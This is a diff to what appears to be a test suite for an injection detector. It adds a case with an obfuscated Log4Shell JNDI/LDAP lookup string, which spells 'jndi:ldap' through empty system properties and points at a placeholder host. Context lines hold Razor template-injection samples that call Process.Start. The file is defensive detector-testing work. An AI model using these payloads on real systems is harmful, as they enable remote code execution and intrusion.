@@ -4656,3 +4656,12 @@ t.test("forty-ninth round: the hundred-and-sixteenth part's false positives afte
   // a block that compiles, or one hiding its refusal where the compiler does not look, is still Razor
   for (const v of ['@{ System.Diagnostics.Process.Start("id"); }', '@{ var s = "$x"; System.Diagnostics.Process.Start("id"); }', '@{\n#if false\n$x\n#endif\nSystem.Diagnostics.Process.Start("id");\n}']) t.ok(q(v).includes('ssti'), v)
 })
+
+t.test("forty-ninth round: the hundred-and-seventeenth part's misses after its measurement", async (t) => {
+  // a Log4Shell scanner's spelling: empty system properties between the letters, the separator's property for the colon
+  const spelt = '${${sys:sun.cpu.isalist}j${sys:sun.cpu.isalist}n${sys:sun.cpu.isalist}d${sys:sun.cpu.isalist}i${sys:sun.cpu.isalist}${sys:path.separator}${lower:LDAP}${sys:path.separator}${sys:file.separator}${sys:file.separator}x.example/a}'
+  t.ok(q(spelt, 'q').includes('jndi'), 'jndi:ldap:// spelt with system properties')
+  t.ok(jndiLookup(spelt), 'read by the lookup resolver')
+  // the properties alone are no lookup of a provider
+  for (const v of ['${sys:path.separator}', 'path: ${sys:file.separator}tmp', '${sys:sun.cpu.isalist}']) t.notOk(jndiLookup(v), v)
+})
